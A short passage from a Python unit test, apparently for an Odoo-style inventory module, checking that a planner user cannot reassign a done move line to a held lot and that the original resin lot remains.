            lambda m: m.product_id == self.resin).move_line_ids
        with self.assertRaises(UserError):
            done_line.with_user(self.planner).write({'lot_id': hold.id})
        self.assertEqual(done_line.lot_id, self.resin_lot)
